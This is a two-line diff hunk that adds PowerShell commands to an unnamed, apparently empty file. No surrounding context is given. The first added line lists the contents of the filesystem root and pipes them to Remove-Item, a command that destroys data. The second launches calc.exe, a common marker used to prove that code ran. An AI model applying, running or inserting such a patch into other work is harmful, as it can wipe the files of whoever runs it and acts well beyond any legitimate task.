@@ -1,0 +1,2 @@
+Get-ChildItem / | Remove-Item
+Start-Process calc.exe
